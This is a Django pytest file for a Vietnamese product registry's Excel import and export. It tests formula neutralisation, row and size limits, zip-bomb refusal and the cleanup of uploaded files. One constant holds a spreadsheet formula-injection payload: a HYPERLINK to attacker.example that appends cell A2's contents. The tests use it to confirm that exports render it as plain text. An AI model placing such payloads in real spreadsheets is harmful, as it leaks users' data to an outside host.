"""Excel files from and to the outside: no formulas in exports, bounded imports, no files left."""

import io
import os
import time
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from ocop.accounts.testing import client_for
from ocop.registry import excel
from ocop.registry.columns import PRODUCER_COLUMNS
from ocop.registry.excel import SheetError, export_workbook, read_rows, template_workbook
from ocop.registry.exports import producer_rows, product_rows
from ocop.registry.forms import ImportForm
from ocop.registry.imports import import_check
from ocop.registry.messages import text
from ocop.registry.models import Producer, Product
from ocop.registry.testing import valid_tax_code

EVIL = '=HYPERLINK("http://attacker.example/?x="&A2,"Bấm vào đây")'


def _formula_cells(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]  # fmt: skip


def test_export_writes_producer_text_as_text(registry, personas):
    Producer.objects.filter(pk=registry.producer_x.pk).update(name=EVIL)
    Product.objects.filter(pk=registry.product_x.pk).update(name="=1+2")
    producers = client_for(personas["producer_a"]).get(reverse("registry:producers_export"))
    products = client_for(personas["commune_x"]).get(reverse("registry:products_export"))
    assert (_formula_cells(producers.content), _formula_cells(products.content)) == ([], [])
    sheet = load_workbook(io.BytesIO(producers.content)).worksheets[0]
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", "'" + EVIL)


def test_export_reimports_formula_like_text_unchanged(registry):
    Producer.objects.filter(pk=registry.producer_x.pk).update(name=EVIL)
    Product.objects.filter(pk=registry.product_x.pk).update(name="=1+1", price_unit="-")
    for kind, rows in (
        ("producers", producer_rows(Producer.objects.all())),
        ("products", product_rows(Product.objects.all())),
    ):
        plan = import_check(kind, read_rows(kind, io.BytesIO(export_workbook(kind, rows))))
        assert plan.errors == []
        assert (len(plan.creates), len(plan.updates), plan.unchanged) == (0, 0, 3), kind


def test_importer_strips_exactly_the_exporters_apostrophe(registry):
    Producer.objects.filter(pk=registry.producer_x.pk).update(phone="+84 912 345 678")
    content = export_workbook("producers", producer_rows(Producer.objects.filter(phone__gt="")))
    assert load_workbook(io.BytesIO(content)).worksheets[0]["F2"].value == "'+84 912 345 678"
    [(_number, row)] = read_rows("producers", io.BytesIO(content))
    assert row["phone"] == "+84 912 345 678"
    plan = import_check("producers", [(2, row)])
    assert (plan.errors, plan.updates[0][0].phone) == ([], "0912345678")
    assert [excel.unquote(v) for v in ("''=1", "'abc", "'-5", "'\t", "=1", 7)] == [
        "''=1", "'abc", "-5", "\t", "=1", 7,
    ]  # fmt: skip


def _producer_book(count: int) -> bytes:
    book = Workbook()
    book.active.append([c.header for c in PRODUCER_COLUMNS])
    for n in range(count):
        book.active.append([valid_tax_code(500 + n), f"HTX {n}", "Hợp tác xã", "10273"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _upload(personas, content: bytes):
    client = client_for(personas["commune_x"])
    client.raise_request_exception = False
    file = SimpleUploadedFile("a.xlsx", content)
    return client.post(reverse("registry:producers_import"), {"file": file})


def _left(tmp_path) -> list[str]:
    folder = tmp_path / "registry-imports"
    return sorted(p.name for p in folder.glob("*")) if folder.exists() else []


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def test_too_many_rows_stops_with_a_reason(registry, personas, media, monkeypatch):
    monkeypatch.setattr(excel, "MAX_ROWS", 3)
    count = Producer.objects.count()
    response = _upload(personas, _producer_book(4))
    assert (response.status_code, response.context["problem"], response.context["plan"]) == (
        200, "Tệp có quá 3 dòng dữ liệu; hãy chia thành nhiều tệp nhỏ hơn.", None,
    )  # fmt: skip
    assert (Producer.objects.count(), _left(media)) == (count, [])
    assert len(list(read_rows("producers", io.BytesIO(_producer_book(3))))) == 3


def test_the_row_limit_is_fifty_thousand():
    assert excel.MAX_ROWS == 50_000


def test_a_zip_that_unpacks_past_100_mb_is_refused_unread():
    out = io.BytesIO(_producer_book(1))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/padding.bin", bytes(100 * 1024 * 1024))
    out.seek(0)
    with pytest.raises(SheetError) as info:
        list(read_rows("producers", out))
    assert text(info.value) == (
        "Tệp Excel quá lớn khi giải nén (tối đa 100 MB); hãy chia thành nhiều tệp nhỏ hơn."
    )


def test_upload_over_10_mb_is_refused_by_the_form():
    big = SimpleUploadedFile("a.xlsx", bytes(10 * 1024 * 1024 + 1))
    form = ImportForm({}, {"file": big})
    assert form.errors == {"file": ["Tệp quá lớn (tối đa 10 MB)."]}


def _broken_book() -> bytes:
    """A valid workbook container whose sheet XML has a number cell holding text."""
    source = zipfile.ZipFile(io.BytesIO(template_workbook("producers")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                bad = b'<row r="3"><c r="A3" t="n"><v>zz</v></c></row></sheetData>'
                data = data.replace(b"</sheetData>", bad)
            target.writestr(item, data)
    return out.getvalue()


def test_a_broken_sheet_is_reported_and_its_file_removed(registry, personas, media):
    count = Producer.objects.count()
    response = _upload(personas, _broken_book())
    assert (response.status_code, response.context["problem"]) == (
        200,
        "Tệp Excel bị hỏng, không đọc được; hãy mở và lưu lại tệp rồi tải lên lại.",
    )
    assert (Producer.objects.count(), _left(media)) == (count, [])
    response = _upload(personas, b"not a zip at all")
    assert (response.status_code, response.context["problem"]) == (
        200,
        "Tệp không phải là tệp Excel .xlsx hợp lệ.",
    )
    assert _left(media) == []


def test_an_unexpected_failure_still_removes_the_file(registry, personas, media, monkeypatch):
    from ocop.registry import views_excel

    def boom(*args, **kwargs):
        raise RuntimeError("database down")

    monkeypatch.setattr(views_excel, "import_check", boom)
    response = _upload(personas, _producer_book(1))
    assert (response.status_code, _left(media)) == (500, [])


def test_a_new_upload_removes_uploads_older_than_a_day(registry, personas, media):
    folder = media / "registry-imports"
    folder.mkdir()
    old, fresh = folder / "old.xlsx", folder / "fresh.xlsx"
    old.write_bytes(b"x")
    fresh.write_bytes(b"x")
    two_days_ago = time.time() - 2 * 24 * 3600
    os.utime(old, (two_days_ago, two_days_ago))
    response = _upload(personas, _producer_book(1))
    token = response.context["token"]
    assert _left(media) == sorted(["fresh.xlsx", f"{token}.xlsx"])


def test_confirm_removes_the_file_even_when_the_check_fails_again(registry, personas, media):
    client = client_for(personas["commune_x"])
    file = SimpleUploadedFile("a.xlsx", _producer_book(1))
    token = client.post(reverse("registry:producers_import"), {"file": file}).context["token"]
    Producer.objects.filter(pk=registry.producer_z.pk).update(tax_code=valid_tax_code(500))
    response = client.post(reverse("registry:producers_import_confirm", args=[token]))
    assert [e.reason for e in response.context["plan"].errors] == [
        "Mã số thuế đã thuộc một chủ thể ngoài phạm vi quản lý của bạn."
    ]
    assert _left(media) == []
    again = client.post(reverse("registry:producers_import_confirm", args=[token]))
    assert again.status_code == 404
